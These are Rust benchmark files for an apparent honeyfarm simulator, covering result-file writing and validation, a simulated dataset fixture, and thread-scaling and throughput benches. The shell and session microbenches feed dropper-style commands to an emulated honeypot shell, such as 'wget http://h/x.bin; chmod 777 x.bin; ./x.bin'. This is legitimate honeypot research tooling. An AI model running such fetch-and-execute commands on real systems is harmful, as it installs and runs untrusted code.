    s.push('\n');
    s
}

/// Parse a bench trajectory file back and check its shape: top-level
/// `bench` (string) / `config` (object) / `results` (array of
/// `{name, mean_ns, iters}` with `iters >= 1`; optional derived
/// `bytes_per_sec` / `elements_per_sec` must be non-negative integers
/// when present). Returns the number of result entries.
pub fn validate_bench_json(text: &str) -> Result<usize, String> {
    use serde_json::Value;
    let root: Value = serde_json::from_str(text).map_err(|e| format!("not valid JSON: {e:?}"))?;
    root.get("bench")
        .and_then(Value::as_str)
        .ok_or("missing string field \"bench\"")?;
    match root.get("config") {
        Some(Value::Map(_)) => {}
        _ => return Err("missing object field \"config\"".into()),
    }
    let results = match root.get("results") {
        Some(Value::Seq(items)) => items,
        _ => return Err("missing array field \"results\"".into()),
    };
    for (i, entry) in results.iter().enumerate() {
        entry
            .get("name")
            .and_then(Value::as_str)
            .ok_or_else(|| format!("results[{i}]: missing string field \"name\""))?;
        entry
            .get("mean_ns")
            .and_then(Value::as_u64)
            .ok_or_else(|| format!("results[{i}]: missing integer field \"mean_ns\""))?;
        let iters = entry
            .get("iters")
            .and_then(Value::as_u64)
            .ok_or_else(|| format!("results[{i}]: missing integer field \"iters\""))?;
        if iters == 0 {
            return Err(format!("results[{i}]: iters must be >= 1"));
        }
        for rate in ["bytes_per_sec", "elements_per_sec"] {
            if let Some(v) = entry.get(rate) {
                v.as_u64().ok_or_else(|| {
                    format!("results[{i}]: {rate} must be a non-negative integer")
                })?;
            }
        }
    }
    Ok(results.len())
}

/// Write a machine-readable bench trajectory file at the repo root, then
/// parse it back and panic if the emitted file is not schema-valid.
pub fn write_bench_json(
    file_name: &str,
    bench: &str,
    config: &[(&str, String)],
    results: &[criterion::Measurement],
) {
    write_bench_json_at(&repo_root().join(file_name), bench, config, results);
}

/// [`write_bench_json`] at an explicit path.
pub fn write_bench_json_at(
    path: &std::path::Path,
    bench: &str,
    config: &[(&str, String)],
    results: &[criterion::Measurement],
) {
    let s = render_bench_json(bench, config, results);
    std::fs::write(path, &s).expect("write bench json");
    let back = std::fs::read_to_string(path).expect("read back bench json");
    match validate_bench_json(&back) {
        Ok(n) => eprintln!("[hf-bench] wrote {} ({n} results)", path.display()),
        Err(e) => panic!("emitted {} is not schema-valid: {e}", path.display()),
    }
}

/// End-of-run emission for a bench target's `main`.
///
/// In measuring mode the recorded means go to `BENCH_<file_name>` at the
/// repo root — the trajectory files EXPERIMENTS.md tracks. In `--test`
/// smoke mode no measurements exist (smoke runs are not benchmarks), but
/// the writer path itself must still be exercised: a placeholder
/// measurement is written to a scratch path under the target temp dir and
/// parse-back validated, so a schema regression fails the smoke run
/// instead of surfacing in the next real benchmark.
pub fn emit_bench_json(
    c: &criterion::Criterion,
    file_name: &str,
    bench: &str,
    config: &[(&str, String)],
) {
    if c.is_test_mode() {
        let placeholder = [criterion::Measurement {
            name: "smoke".to_string(),
            mean_ns: 0,
            iters: 1,
            throughput: None,
        }];
        let results = if c.measurements().is_empty() {
            &placeholder[..]
        } else {
            c.measurements()
        };
        let path = std::env::temp_dir().join(format!("hf-bench-smoke-{}", std::process::id()));
        std::fs::create_dir_all(&path).expect("smoke scratch dir");
        write_bench_json_at(&path.join(file_name), bench, config, results);
    } else {
        write_bench_json(file_name, bench, config, c.measurements());
    }
}

/// Bridge from an obs [`hf_obs::RunManifest`] to bench measurements: each
/// span becomes one `{name, mean_ns, iters}` entry (mean wall time per
/// execution, execution count), so a `--metrics` run can feed the same
/// `BENCH_*.json` trajectory format as the criterion harness.
pub fn measurements_from_spans(manifest: &hf_obs::RunManifest) -> Vec<criterion::Measurement> {
    manifest
        .spans
        .iter()
        .map(|(name, s)| criterion::Measurement {
            name: name.clone(),
            mean_ns: u128::from(s.mean_wall_ns()),
            iters: s.count,
            throughput: None,
        })
        .collect()
}

/// The shared fixture.
pub struct Fixture {
    /// The simulated dataset.
    pub dataset: Dataset,
    /// Its tag database.
    pub tags: TagDb,
    /// Precomputed aggregates (the experiment benches measure the per-
    /// table/figure reproducers on top of these, mirroring how an analyst
    /// would iterate).
    pub agg: Aggregates,
}

static FIXTURE: OnceLock<Fixture> = OnceLock::new();

/// Scale from the environment (default 0.002).
pub fn bench_scale() -> f64 {
    std::env::var("HF_BENCH_SCALE")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(0.002)
}

/// Window length in days from the environment (default: full 486).
pub fn bench_days() -> u32 {
    std::env::var("HF_BENCH_DAYS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(486)
}

/// Get (building on first use) the shared fixture.
pub fn fixture() -> &'static Fixture {
    FIXTURE.get_or_init(|| {
        let days = bench_days();
        let window = if days >= 486 {
            StudyWindow::paper()
        } else {
            StudyWindow::first_days(days)
        };
        let cfg = SimConfig {
            seed: 0xbe9c,
            scale: hf_agents::Scale::of(bench_scale()),
            window,
            use_script_cache: false,
            threads: 1,
        };
        eprintln!(
            "[hf-bench] simulating fixture: scale {} over {} days …",
            bench_scale(),
            days
        );
        let t0 = std::time::Instant::now();
        let out = Simulation::run(cfg);
        eprintln!(
            "[hf-bench] fixture ready: {} sessions, {} clients, {} hashes in {:.1}s",
            out.dataset.len(),
            out.n_clients,
            out.tags.len(),
            t0.elapsed().as_secs_f64()
        );
        let agg = Aggregates::compute(&out.dataset);
        Fixture {
            dataset: out.dataset,
            tags: out.tags,
            agg,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn m(name: &str, mean_ns: u128, iters: u64) -> criterion::Measurement {
        criterion::Measurement {
            name: name.to_string(),
            mean_ns,
            iters,
            throughput: None,
        }
    }

    #[test]
    fn render_escapes_hostile_names_and_validates() {
        let text = render_bench_json(
            "quote\"back\\slash",
            &[
                ("scale", "0.002".to_string()),
                ("note", "not json".to_string()),
            ],
            &[m("group/fn \"x\"\t", 1_234, 10)],
        );
        assert_eq!(validate_bench_json(&text), Ok(1));
        let root: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(
            root.get("bench").unwrap().as_str(),
            Some("quote\"back\\slash")
        );
        // A config value that parses as JSON stays a number; one that
        // doesn't is kept as a string.
        let config = root.get("config").unwrap();
        assert!(matches!(
            config.get("scale"),
            Some(serde_json::Value::F64(_))
        ));
        assert_eq!(config.get("note").unwrap().as_str(), Some("not json"));
    }

    #[test]
    fn validate_rejects_malformed() {
        assert!(validate_bench_json("{").is_err());
        assert!(validate_bench_json("{}").is_err());
        assert!(validate_bench_json(r#"{"bench": "b", "config": {}}"#).is_err());
        assert!(validate_bench_json(
            r#"{"bench": "b", "config": {}, "results": [{"name": "x", "mean_ns": 1}]}"#
        )
        .is_err());
        assert!(validate_bench_json(
            r#"{"bench": "b", "config": {}, "results": [{"name": "x", "mean_ns": 1, "iters": 0}]}"#
        )
        .is_err());
        assert_eq!(
            validate_bench_json(r#"{"bench": "b", "config": {}, "results": []}"#),
            Ok(0)
        );
    }

    #[test]
    fn committed_trajectories_parse_back() {
        // The BENCH_*.json files committed at the repo root are the pinned
        // performance record; a schema drift in the writer (or a hand edit)
        // must fail here, not when the next benchmark run overwrites them.
        for name in [
            "BENCH_thread_scaling.json",
            "BENCH_analysis.json",
            "BENCH_session_hot_path.json",
            "BENCH_paper_scale.json",
        ] {
            let path = repo_root().join(name);
            let text = std::fs::read_to_string(&path)
                .unwrap_or_else(|e| panic!("{name} missing at repo root: {e}"));
            let n = validate_bench_json(&text)
                .unwrap_or_else(|e| panic!("{name} failed schema validation: {e}"));
            assert!(n > 0, "{name} has no results");
        }
    }

    #[test]
    fn spans_bridge_feeds_trajectory_format() {
        let mut manifest = hf_obs::RunManifest {
            schema_version: hf_obs::SCHEMA_VERSION,
            tool: "bridge".to_string(),
            counters: Default::default(),
            gauges: Default::default(),
            histograms: Default::default(),
            spans: Default::default(),
        };
        let mut s = hf_obs::SpanStats::default();
        s.record(100, 50);
        s.record(300, 70);
        manifest.spans.insert("sim.day".to_string(), s);

        let ms = measurements_from_spans(&manifest);
        assert_eq!(ms.len(), 1);
        assert_eq!(ms[0].name, "sim.day");
        assert_eq!(ms[0].mean_ns, 200);
        assert_eq!(ms[0].iters, 2);

        let text = render_bench_json("from_spans", &[], &ms);
        assert_eq!(validate_bench_json(&text), Ok(1));
    }
}
