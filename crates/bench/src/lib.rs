//! Shared fixtures for the benchmark harness.
//!
//! All experiment benches run against one lazily-simulated dataset so the
//! (comparatively expensive) generation happens once per bench binary. The
//! scale is tunable via `HF_BENCH_SCALE` (default 0.002 = 1:500 of the
//! paper's volume over the full 486-day window) and `HF_BENCH_DAYS`.

use std::path::PathBuf;
use std::sync::OnceLock;

use hf_core::aggregates::Aggregates;
use hf_farm::{Dataset, TagDb};
use hf_sim::{SimConfig, Simulation};
use hf_simclock::StudyWindow;

/// Repo root (two levels above this crate's manifest) — where the
/// `BENCH_*.json` trajectory files live.
pub fn repo_root() -> PathBuf {
    PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../.."))
}

/// Write a machine-readable bench trajectory file at the repo root.
///
/// Schema (documented in EXPERIMENTS.md): `bench` is the bench target
/// name, `config` the fixed workload parameters as key → JSON-literal
/// pairs, `results` one entry per measurement with the mean nanoseconds
/// per iteration and the iteration count.
pub fn write_bench_json(
    file_name: &str,
    bench: &str,
    config: &[(&str, String)],
    results: &[criterion::Measurement],
) {
    let mut s = String::from("{\n");
    s.push_str(&format!("  \"bench\": \"{bench}\",\n"));
    s.push_str("  \"config\": {");
    for (i, (k, v)) in config.iter().enumerate() {
        if i > 0 {
            s.push_str(", ");
        }
        s.push_str(&format!("\"{k}\": {v}"));
    }
    s.push_str("},\n  \"results\": [\n");
    for (i, m) in results.iter().enumerate() {
        s.push_str(&format!(
            "    {{\"name\": \"{}\", \"mean_ns\": {}, \"iters\": {}}}{}\n",
            m.name,
            m.mean_ns,
            m.iters,
            if i + 1 < results.len() { "," } else { "" }
        ));
    }
    s.push_str("  ]\n}\n");
    let path = repo_root().join(file_name);
    std::fs::write(&path, s).expect("write bench json");
    eprintln!("[hf-bench] wrote {}", path.display());
}

/// The shared fixture.
pub struct Fixture {
    /// The simulated dataset.
    pub dataset: Dataset,
    /// Its tag database.
    pub tags: TagDb,
    /// Precomputed aggregates (the experiment benches measure the per-
    /// table/figure reproducers on top of these, mirroring how an analyst
    /// would iterate).
    pub agg: Aggregates,
}

static FIXTURE: OnceLock<Fixture> = OnceLock::new();

/// Scale from the environment (default 0.002).
pub fn bench_scale() -> f64 {
    std::env::var("HF_BENCH_SCALE")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(0.002)
}

/// Window length in days from the environment (default: full 486).
pub fn bench_days() -> u32 {
    std::env::var("HF_BENCH_DAYS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(486)
}

/// Get (building on first use) the shared fixture.
pub fn fixture() -> &'static Fixture {
    FIXTURE.get_or_init(|| {
        let days = bench_days();
        let window = if days >= 486 {
            StudyWindow::paper()
        } else {
            StudyWindow::first_days(days)
        };
        let cfg = SimConfig {
            seed: 0xbe9c,
            scale: hf_agents::Scale::of(bench_scale()),
            window,
            use_script_cache: false,
            threads: 1,
        };
        eprintln!(
            "[hf-bench] simulating fixture: scale {} over {} days …",
            bench_scale(),
            days
        );
        let t0 = std::time::Instant::now();
        let out = Simulation::run(cfg);
        eprintln!(
            "[hf-bench] fixture ready: {} sessions, {} clients, {} hashes in {:.1}s",
            out.dataset.len(),
            out.n_clients,
            out.tags.len(),
            t0.elapsed().as_secs_f64()
        );
        let agg = Aggregates::compute(&out.dataset);
        Fixture {
            dataset: out.dataset,
            tags: out.tags,
            agg,
        }
    })
}
