//! Thread-scaling of the parallel analysis engine.
//!
//! Simulates one fixed 20-day window (same workload as `thread_scaling`),
//! then measures the sharded `Aggregates` fold and the full
//! `Report::build` at 1/2/4/8 worker threads. Output of both is
//! bit-identical across thread counts (`hf_core::aggregates` module docs),
//! so the numbers compare like for like. Writes the recorded means to
//! `BENCH_analysis.json` at the repo root; under `--test` a placeholder
//! goes to a scratch path instead and is parse-back validated.
//!
//! ```sh
//! cargo bench -p hf-bench --bench analysis_scaling           # measure
//! cargo bench -p hf-bench --bench analysis_scaling -- --test # smoke
//! ```

use criterion::{black_box, Criterion};
use hf_core::aggregates::Aggregates;
use hf_core::report::Report;
use hf_sim::{SimConfig, Simulation};
use hf_simclock::StudyWindow;

const SEED: u64 = 0x5ca1e;
const SCALE: f64 = 0.001;
const DAYS: u32 = 20;

fn bench_analysis_scaling(c: &mut Criterion) {
    let out = Simulation::run(SimConfig {
        seed: SEED,
        scale: hf_agents::Scale::of(SCALE),
        window: StudyWindow::first_days(DAYS),
        use_script_cache: false,
        threads: 1,
    });
    eprintln!(
        "[hf-bench] analysis fixture: {} sessions over {DAYS} days",
        out.dataset.len()
    );
    let agg = Aggregates::compute(&out.dataset);

    let mut g = c.benchmark_group("analysis_scaling");
    g.sample_size(10);
    for threads in [1usize, 2, 4, 8] {
        g.bench_function(format!("aggregates_20d_t{threads}"), |b| {
            b.iter(|| black_box(Aggregates::compute_threaded(&out.dataset, threads)))
        });
    }
    for threads in [1usize, 2, 4, 8] {
        g.bench_function(format!("report_build_20d_t{threads}"), |b| {
            b.iter(|| {
                black_box(Report::build_with_tags_threaded(
                    &out.dataset,
                    &agg,
                    &out.tags,
                    threads,
                ))
            })
        });
    }
    g.finish();
}

fn main() {
    let mut c = Criterion::default();
    bench_analysis_scaling(&mut c);
    // Always emit: in `--test` smoke mode this writes a placeholder to a
    // scratch path and parse-back validates it, so writer regressions
    // fail the smoke run rather than the next real benchmark.
    hf_bench::emit_bench_json(
        &c,
        "BENCH_analysis.json",
        "analysis_scaling",
        &[
            ("seed", format!("{SEED}")),
            ("scale", format!("{SCALE}")),
            ("days", format!("{DAYS}")),
        ],
    );
}
