//! Thread-scaling of the parallel day loop.
//!
//! Runs the same fixed short window at 1/2/4/8 worker threads, with the
//! script cache off (full shell emulation per session — the compute-bound
//! case parallelism targets) and on (the fast path, where per-session work
//! is lighter and merge overhead is proportionally larger). Output is
//! bit-identical across thread counts (see `hf_sim::parallel`), so the
//! numbers compare like for like.
//!
//! ```sh
//! cargo bench -p hf-bench --bench thread_scaling
//! ```

use criterion::{black_box, criterion_group, criterion_main, Criterion};
use hf_sim::{SimConfig, Simulation};
use hf_simclock::StudyWindow;

fn cfg(threads: usize, fast: bool) -> SimConfig {
    SimConfig {
        seed: 0x5ca1e,
        scale: hf_agents::Scale::of(0.001),
        window: StudyWindow::first_days(20),
        use_script_cache: fast,
        threads,
    }
}

fn bench_thread_scaling(c: &mut Criterion) {
    let mut g = c.benchmark_group("thread_scaling");
    g.sample_size(10);
    for threads in [1usize, 2, 4, 8] {
        g.bench_function(format!("sim_20d_full_shell_t{threads}"), |b| {
            b.iter(|| black_box(Simulation::run(cfg(threads, false)).dataset.len()))
        });
    }
    for threads in [1usize, 2, 4, 8] {
        g.bench_function(format!("sim_20d_script_cache_t{threads}"), |b| {
            b.iter(|| black_box(Simulation::run(cfg(threads, true)).dataset.len()))
        });
    }
    g.finish();
}

criterion_group!(benches, bench_thread_scaling);
criterion_main!(benches);
