//! Thread-scaling of the parallel day loop.
//!
//! Runs the same fixed short window at 1/2/4/8 worker threads, with the
//! script cache off (full shell emulation per session — the compute-bound
//! case parallelism targets) and on (the fast path, where per-session work
//! is lighter and merge overhead is proportionally larger). Output is
//! bit-identical across thread counts (see `hf_sim::parallel`), so the
//! numbers compare like for like.
//!
//! Writes the recorded means to `BENCH_thread_scaling.json` at the repo
//! root; under `--test` a placeholder goes to a scratch path instead and
//! is parse-back validated.
//!
//! ```sh
//! cargo bench -p hf-bench --bench thread_scaling
//! ```

use criterion::{black_box, Criterion};
use hf_sim::{SimConfig, Simulation};
use hf_simclock::StudyWindow;

const SEED: u64 = 0x5ca1e;
const SCALE: f64 = 0.001;
const SCALE_10X: f64 = 0.01;
const DAYS: u32 = 20;

fn cfg(scale: f64, threads: usize, fast: bool) -> SimConfig {
    SimConfig {
        seed: SEED,
        scale: hf_agents::Scale::of(scale),
        window: StudyWindow::first_days(DAYS),
        use_script_cache: fast,
        threads,
    }
}

fn bench_thread_scaling(c: &mut Criterion) {
    let mut g = c.benchmark_group("thread_scaling");
    g.sample_size(10);
    for threads in [1usize, 2, 4, 8] {
        g.bench_function(format!("sim_20d_full_shell_t{threads}"), |b| {
            b.iter(|| black_box(Simulation::run(cfg(SCALE, threads, false)).dataset.len()))
        });
    }
    for threads in [1usize, 2, 4, 8] {
        g.bench_function(format!("sim_20d_script_cache_t{threads}"), |b| {
            b.iter(|| black_box(Simulation::run(cfg(SCALE, threads, true)).dataset.len()))
        });
    }
    // 10× scale: long enough days that every thread count clears the
    // MIN_SHARD_PLANS floor, so the scaling curve is visible rather than
    // clamped to a handful of shards.
    for threads in [1usize, 2, 4, 8] {
        g.bench_function(format!("sim_20d_s0.01_full_shell_t{threads}"), |b| {
            b.iter(|| {
                black_box(
                    Simulation::run(cfg(SCALE_10X, threads, false))
                        .dataset
                        .len(),
                )
            })
        });
    }
    g.finish();
}

fn main() {
    let mut c = Criterion::default();
    bench_thread_scaling(&mut c);
    // Always emit: in `--test` smoke mode this writes a placeholder to a
    // scratch path and parse-back validates it, so writer regressions
    // fail the smoke run rather than the next real benchmark.
    hf_bench::emit_bench_json(
        &c,
        "BENCH_thread_scaling.json",
        "thread_scaling",
        &[
            ("seed", format!("{SEED}")),
            ("scale", format!("{SCALE}")),
            ("scale_10x", format!("{SCALE_10X}")),
            ("days", format!("{DAYS}")),
        ],
    );
}
