//! Substrate microbenches: the from-scratch building blocks under the
//! honeyfarm — hashing, protocol codecs, the shell emulator, the session
//! state machine, and one full simulated day.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use hf_agents::{Ecosystem, EcosystemConfig, Scale};
use hf_hash::Sha256;
use hf_honeypot::{HoneypotConfig, SessionDriver};
use hf_proto::creds::Credentials;
use hf_proto::ssh_ident::SshIdent;
use hf_proto::telnet::TelnetDecoder;
use hf_proto::Protocol;
use hf_shell::{NullFetcher, ShellSession, SyntheticFetcher, SystemProfile};
use hf_simclock::{SimInstant, StudyWindow};
use std::hint::black_box;

fn bench_sha256(c: &mut Criterion) {
    let mut g = c.benchmark_group("sha256");
    for size in [64usize, 1024, 65_536] {
        let data = vec![0xabu8; size];
        g.throughput(Throughput::Bytes(size as u64));
        g.bench_function(format!("digest_{size}B"), |b| {
            b.iter(|| black_box(Sha256::digest(&data)))
        });
    }
    g.finish();
}

fn bench_proto(c: &mut Criterion) {
    c.bench_function("ssh_ident_parse", |b| {
        b.iter(|| black_box(SshIdent::parse("SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5")))
    });
    let mut stream = Vec::new();
    for i in 0..512u32 {
        stream.push((i % 251) as u8);
        if i % 37 == 0 {
            stream.extend_from_slice(&[255, 253, 1]); // IAC DO ECHO
        }
    }
    c.bench_function("telnet_decode_512B", |b| {
        b.iter(|| {
            let mut d = TelnetDecoder::new();
            black_box(d.feed(&stream))
        })
    });
}

fn bench_shell(c: &mut Criterion) {
    c.bench_function("shell_session_create", |b| {
        b.iter(|| {
            black_box(ShellSession::new(
                SystemProfile::default(),
                Box::new(NullFetcher),
            ))
        })
    });
    c.bench_function("shell_recon_script", |b| {
        b.iter(|| {
            let mut sh = ShellSession::new(SystemProfile::default(), Box::new(NullFetcher));
            sh.execute("uname -a; cat /proc/cpuinfo | grep model; free -m");
            black_box(sh.take_events())
        })
    });
    c.bench_function("shell_dropper_script", |b| {
        b.iter(|| {
            let mut sh = ShellSession::new(SystemProfile::default(), Box::new(SyntheticFetcher));
            sh.execute("cd /tmp; wget http://h/x.bin; chmod 777 x.bin; ./x.bin");
            black_box(sh.take_events())
        })
    });
}

fn bench_session(c: &mut Criterion) {
    c.bench_function("session_scan", |b| {
        b.iter(|| {
            let mut d = SessionDriver::accept(
                HoneypotConfig::default(),
                0,
                Protocol::Telnet,
                hf_geo::Ip4::new(203, 0, 113, 1),
                4000,
                SimInstant::EPOCH,
                Box::new(NullFetcher),
            );
            d.advance(3);
            d.client_close();
            black_box(d.into_record())
        })
    });
    c.bench_function("session_intrusion", |b| {
        b.iter(|| {
            let mut d = SessionDriver::accept(
                HoneypotConfig::default(),
                0,
                Protocol::Ssh,
                hf_geo::Ip4::new(203, 0, 113, 1),
                4000,
                SimInstant::EPOCH,
                Box::new(SyntheticFetcher),
            );
            d.offer_credentials(Credentials::new("root", "1234"), 1);
            d.run_command("cd /tmp && wget http://h/m && chmod 777 m", 2);
            d.client_close();
            black_box(d.into_record())
        })
    });
}

fn bench_planning(c: &mut Criterion) {
    let mut g = c.benchmark_group("planning");
    g.sample_size(10);
    g.bench_function("ecosystem_plan_one_day", |b| {
        let mut eco = Ecosystem::new(EcosystemConfig {
            seed: 1,
            scale: Scale::of(0.002),
            window: StudyWindow::paper(),
        });
        // Warm up rosters so the measured day is steady-state.
        eco.plan_day(99);
        let mut day = 100u32;
        b.iter(|| {
            let plans = eco.plan_day(day);
            day += 1;
            if day > 400 {
                day = 100;
            }
            black_box(plans.len())
        })
    });
    g.finish();
}

criterion_group!(
    benches,
    bench_sha256,
    bench_proto,
    bench_shell,
    bench_session,
    bench_planning
);
criterion_main!(benches);
