//! Paper-scale byte throughput: the persistence and streaming-analysis
//! paths end to end, at a fixed fraction of the paper's 402 M-session
//! volume.
//!
//! Three groups, each annotated with its work per iteration so the emitted
//! JSON carries derived `bytes_per_sec` / `elements_per_sec` rates:
//!
//! * `hash_stream` — raw SHA-256 over a multi-megabyte buffer, the ceiling
//!   every digesting path (chunk checksums, artifact hashing) sits under.
//! * `snapshot_write` — full chunked hfstore encode of the fixture run,
//!   bytes/sec over the finished snapshot size.
//! * `streaming_fold` — `FoldOutput::from_snapshot_stream` over those same
//!   bytes: checksum verify, zero-copy chunk decode, artifact replay, and
//!   the day-windowed aggregation fold, rows/sec end to end. This is the
//!   number the ISSUE-9 ≥2× gate is judged on.
//!
//! Measure mode simulates scale 0.01 over the full 486-day window
//! (override via `HF_PAPER_BENCH_SCALE` / `HF_PAPER_BENCH_DAYS`); under
//! `--test` a 6-day tiny run keeps the CI smoke fast. Writes
//! `BENCH_paper_scale.json` at the repo root (scratch path + parse-back
//! validation in smoke mode).
//!
//! ```sh
//! cargo bench -p hf-bench --bench paper_scale           # measure
//! cargo bench -p hf-bench --bench paper_scale -- --test # smoke
//! ```

use criterion::{black_box, Criterion, Throughput};
use hf_hash::Sha256;
use hf_sim::{FoldOutput, SimConfig, Simulation};
use hf_simclock::StudyWindow;

const SEED: u64 = 0x5ca1e;
const HASH_BUF_LEN: usize = 4 * 1024 * 1024;

fn env_f64(name: &str, default: f64) -> f64 {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

fn env_u32(name: &str, default: u32) -> u32 {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

fn bench_hash_stream(c: &mut Criterion) {
    let buf: Vec<u8> = (0..HASH_BUF_LEN).map(|i| (i * 131) as u8).collect();
    let mut g = c.benchmark_group("hash_stream");
    g.throughput(Throughput::Bytes(buf.len() as u64));
    g.bench_function("sha256_4mib", |b| {
        b.iter(|| black_box(Sha256::digest(&buf)))
    });
    g.finish();
}

fn main() {
    let mut c = Criterion::default();
    bench_hash_stream(&mut c);

    let (scale, days) = if c.is_test_mode() {
        (0.001, 6)
    } else {
        (
            env_f64("HF_PAPER_BENCH_SCALE", 0.01),
            env_u32("HF_PAPER_BENCH_DAYS", 486),
        )
    };
    let window = if days >= 486 {
        StudyWindow::paper()
    } else {
        StudyWindow::first_days(days)
    };
    let cfg = SimConfig {
        seed: SEED,
        scale: hf_agents::Scale::of(scale),
        window,
        use_script_cache: false,
        threads: 1,
    };
    eprintln!("[hf-bench] paper_scale fixture: scale {scale} over {days} days …");
    let t0 = std::time::Instant::now();
    let out = Simulation::run(cfg.clone());
    let n_rows = out.dataset.len() as u64;
    let snap = out.to_snapshot(&cfg);
    let mut bytes = Vec::new();
    snap.write_to(&mut bytes).expect("encode snapshot");
    eprintln!(
        "[hf-bench] fixture ready: {n_rows} sessions, {} snapshot bytes in {:.1}s",
        bytes.len(),
        t0.elapsed().as_secs_f64()
    );

    let mut g = c.benchmark_group("snapshot_write");
    g.throughput(Throughput::Bytes(bytes.len() as u64));
    g.bench_function(format!("chunked_encode_{days}d"), |b| {
        let mut buf = Vec::with_capacity(bytes.len() + 1024);
        b.iter(|| {
            buf.clear();
            snap.write_to(&mut buf).expect("encode snapshot");
            black_box(buf.len())
        })
    });
    g.finish();

    let mut g = c.benchmark_group("streaming_fold");
    g.throughput(Throughput::Elements(n_rows));
    g.bench_function(format!("snapshot_stream_{days}d"), |b| {
        b.iter(|| {
            let fold = FoldOutput::from_snapshot_stream(bytes.as_slice()).expect("stream fold");
            black_box((fold.n_clients, fold.aggregates.clients.len()))
        })
    });
    g.finish();

    hf_bench::emit_bench_json(
        &c,
        "BENCH_paper_scale.json",
        "paper_scale",
        &[
            ("seed", format!("{SEED}")),
            ("scale", format!("{scale}")),
            ("days", format!("{days}")),
            ("rows", format!("{n_rows}")),
            ("snapshot_bytes", format!("{}", bytes.len())),
        ],
    );
}
