//! Design-choice ablations called out in DESIGN.md:
//!
//! 1. columnar session store vs a naive row-of-structs vector,
//! 2. interned u32 ids vs string keys in analysis maps,
//! 3. ring/last-seen sliding freshness window vs a BTreeMap rescan,
//! 4. shell script-cache fast path vs full re-execution.

use std::collections::{BTreeMap, HashMap};
use std::hint::black_box;

use criterion::{criterion_group, criterion_main, Criterion};
use hf_bench::fixture;
use hf_farm::SessionStore;
use hf_honeypot::SessionRecord;
use hf_shell::{NullFetcher, ShellSession, SystemProfile};
use hf_simclock::SlidingDayWindow;

/// Naive alternative to the columnar store: full record structs in a Vec.
fn naive_rows(n: usize) -> Vec<SessionRecord> {
    use hf_geo::Ip4;
    use hf_honeypot::{EndReason, LoginAttempt};
    use hf_proto::creds::Credentials;
    use hf_proto::Protocol;
    use hf_shell::CommandRecord;
    use hf_simclock::SimInstant;
    (0..n)
        .map(|i| SessionRecord {
            honeypot: (i % 221) as u16,
            protocol: Protocol::Ssh,
            client_ip: Ip4((16 << 24) + i as u32),
            client_port: 4000,
            start: SimInstant::from_day_and_secs((i % 400) as u32, 10),
            duration_secs: 30,
            ended_by: EndReason::ClientClose,
            ssh_client_version: Some("SSH-2.0-Go".to_string()),
            logins: vec![LoginAttempt {
                creds: Credentials::new("root", "1234"),
                accepted: true,
            }],
            commands: vec![CommandRecord {
                input: "uname -a".to_string(),
                known: true,
            }],
            uris: vec![],
            file_hashes: vec![],
            download_hashes: vec![],
        })
        .collect()
}

fn bench_store(c: &mut Criterion) {
    let mut g = c.benchmark_group("ablation_store");
    g.sample_size(10);
    let records = naive_rows(50_000);
    g.bench_function("columnar_ingest_50k", |b| {
        b.iter(|| {
            let mut store = SessionStore::with_capacity(records.len());
            for r in &records {
                store.ingest(r, None);
            }
            black_box(store.len())
        })
    });
    g.bench_function("naive_clone_50k", |b| {
        b.iter(|| black_box(records.clone().len()))
    });
    // Scan: count successful logins.
    let mut store = SessionStore::with_capacity(records.len());
    for r in &records {
        store.ingest(r, None);
    }
    g.bench_function("columnar_scan_50k", |b| {
        b.iter(|| black_box(store.iter().filter(|v| v.login_succeeded()).count()))
    });
    g.bench_function("naive_scan_50k", |b| {
        b.iter(|| {
            black_box(
                records
                    .iter()
                    .filter(|r| r.logins.iter().any(|l| l.accepted))
                    .count(),
            )
        })
    });
    g.finish();
}

fn bench_interning(c: &mut Criterion) {
    let f = fixture();
    let mut g = c.benchmark_group("ablation_interning");
    // Count command popularity by interned id (the shipped design) …
    g.bench_function("count_by_interned_id", |b| {
        b.iter(|| {
            let mut counts: HashMap<u32, u64> = HashMap::new();
            for v in f.dataset.sessions.iter() {
                for &packed in f.dataset.sessions.lists.get(v.raw().cmd_list_id) {
                    *counts.entry(packed >> 1).or_default() += 1;
                }
            }
            black_box(counts.len())
        })
    });
    // … vs materializing string keys.
    g.bench_function("count_by_string_key", |b| {
        b.iter(|| {
            let mut counts: HashMap<String, u64> = HashMap::new();
            for v in f.dataset.sessions.iter() {
                for (cmd, _) in v.commands() {
                    *counts.entry(cmd.to_string()).or_default() += 1;
                }
            }
            black_box(counts.len())
        })
    });
    g.finish();
}

fn bench_freshness(c: &mut Criterion) {
    // Synthetic observation stream: 200 days × 400 hashes with recurrence.
    let mut observations: Vec<(u32, u32)> = Vec::new();
    for day in 0..200u32 {
        for k in 0..400u32 {
            if (day * 31 + k * 7) % 5 != 0 {
                observations.push((k % (50 + day), day));
            }
        }
    }
    let mut g = c.benchmark_group("ablation_freshness");
    g.bench_function("sliding_last_seen", |b| {
        b.iter(|| {
            let mut w = SlidingDayWindow::<u32>::with_days(7);
            let mut fresh = 0u64;
            for &(h, d) in &observations {
                if w.observe(h, d) {
                    fresh += 1;
                }
            }
            black_box(fresh)
        })
    });
    g.bench_function("btreemap_rescan", |b| {
        b.iter(|| {
            // Naive: keep all (hash, day) sightings, rescan the last 7 days.
            let mut seen: BTreeMap<(u32, u32), ()> = BTreeMap::new();
            let mut fresh = 0u64;
            for &(h, d) in &observations {
                let lo = d.saturating_sub(6);
                let any_recent = (lo..=d.saturating_sub(0)).any(|day| seen.contains_key(&(h, day)));
                if !any_recent {
                    fresh += 1;
                }
                seen.insert((h, d), ());
            }
            black_box(fresh)
        })
    });
    g.finish();
}

fn bench_shell_reuse(c: &mut Criterion) {
    let mut g = c.benchmark_group("ablation_shell");
    let script = "cd /tmp; echo deadbeef > .x; chmod 777 .x; ./.x";
    g.bench_function("fresh_session_per_run", |b| {
        b.iter(|| {
